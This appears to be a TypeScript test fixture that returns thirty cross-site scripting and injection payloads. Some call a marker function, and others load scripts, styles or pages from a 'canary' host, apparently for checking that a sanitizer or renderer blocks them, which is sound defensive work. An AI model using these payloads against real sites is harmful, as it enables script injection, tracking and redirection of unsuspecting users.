/** The global that every script among the payloads would call. */
const CALL = '__xss'

/**
 * Thirty texts that run a script, load something, or lead away from the page as soon as anything takes them for markup, a
 * style, a template or an address. Each is one line of at most 120 bytes; what they load lies on the host `canary`.
 */
export function hostileTexts(canary: string): readonly string[] {
  return [
    `<script>${CALL}(1)</script>`,
    `<img src=x onerror=${CALL}(2)>`,
    `<svg/onload=${CALL}(3)>`,
    `<iframe srcdoc="<script>parent.${CALL}(4)</script>">`,
    `<iframe src=javascript:parent.${CALL}(5)>`,
    `<body onload=${CALL}(6)>`,
    `<details open ontoggle=${CALL}(7)>`,
    `<input autofocus onfocus=${CALL}(8)>`,
    `<video><source onerror=${CALL}(9)></video>`,
    `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${CALL}(10)>`,
    `<noscript><p title="</noscript><img src=x onerror=${CALL}(11)>">`,
    `"><script src=//${canary}/12.js></script>`,
    `'><img src=//${canary}/13.png>`,
    `[here](javascript:${CALL}(14))`,
    `![picture](http://${canary}/15.png)`,
    `<a href="javascript:${CALL}(16)">a</a>`,
    `<a href="data:text/html,<script>opener.${CALL}(17)</script>" target=_blank>a</a>`,
    `<object data=http://${canary}/18.html></object>`,
    `<embed src=http://${canary}/19.swf>`,
    `<link rel=stylesheet href=http://${canary}/20.css>`,
    `<style>@import url(http://${canary}/21.css)</style>`,
    `<div style="background:url(http://${canary}/22.png)">a</div>`,
    `<meta http-equiv=refresh content="0;url=http://${canary}/23">`,
    `<base href=http://${canary}/24/><button formaction=javascript:${CALL}(24)>a</button>`,
    `{@html "<img src=x onerror=${CALL}(25)>"}{{constructor.constructor("${CALL}(25)")()}}`,
    `\${${CALL}(26)}\`+${CALL}(26)+\`</textarea></title></style><script>${CALL}(26)</script>`,
    `<svg><animate onbegin=${CALL}(27) attributeName=x dur=1s>`,
    `\u202e\u2066<img src=x onerror=${CALL}(28)>gpj.\u202c`,
    `\uff1cscript\uff1e${CALL}(29)\u003c/script\u003e&lt;img src=x onerror=${CALL}(29)&gt;`,
    `<x onclick=${CALL}(30) tabindex=1 onfocus=${CALL}(30) autofocus>a</x><!--`,
  ]
}
